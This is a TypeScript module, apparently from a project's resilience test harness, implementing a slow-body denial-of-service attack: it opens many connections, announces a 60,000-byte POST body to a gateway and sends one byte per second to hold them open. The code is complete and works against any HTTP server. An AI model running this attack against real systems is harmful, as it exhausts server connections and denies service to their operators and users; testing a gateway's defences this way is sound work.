/**
 * Requests that announce a body of 60,000 bytes and send one byte a second.
 *
 * @module
 */

import { utf8 } from "../../../src/base/bytes.ts";
import { systemClock } from "../../../src/base/clock.ts";
import type { Attack, Tally } from "../attack.ts";

const ANNOUNCED = 60_000;
const DRIP_MS = 1_000;
/** Handshakes under way at once. */
const OPENING = 100;
const ONE_BYTE = utf8(" ");

export const slowBodies: Attack = async ({ url, connections }, tally, signal) => {
  const { hostname, port, host } = new URL(url);
  const head = utf8([
    "POST /v1/attestations HTTP/1.1",
    `Host: ${host}`,
    "Content-Type: application/json",
    `Content-Length: ${ANNOUNCED}`,
    "",
    "{",
  ].join("\r\n"));
  const open = new Set<Deno.TcpConn>();
  /** Opens missing connections; the next round replaces connections that the gateway ends. */
  const openMissing = async () => {
    let missing = connections - open.size;
    const lane = async () => {
      while (missing-- > 0 && !signal.aborted) {
        tally.sent++;
        try {
          const connection = await Deno.connect({ hostname, port: Number(port) });
          open.add(connection);
          await connection.write(head);
          void forgetOnEnd(connection, open, tally);
          tally.accepted++;
        } catch {
          tally.refused++;
        }
      }
    };
    await Promise.all(Array.from({ length: OPENING }, lane));
  };
  while (!signal.aborted) {
    await openMissing();
    for (const connection of open) connection.write(ONE_BYTE).catch(() => {});
    await systemClock.sleep(DRIP_MS);
  }
  for (const connection of open) connection.close();
};

/** Waits for an answer or the end, which is a refusal while the body is unfinished. */
async function forgetOnEnd(
  connection: Deno.TcpConn,
  open: Set<Deno.TcpConn>,
  tally: Tally,
): Promise<void> {
  try {
    await connection.read(new Uint8Array(1_024));
  } catch {
    // Reset by the gateway, or closed here at the end.
  }
  if (!open.delete(connection)) return;
  tally.accepted--;
  tally.refused++;
  try {
    connection.close();
  } catch {
    // Closed already.
  }
}
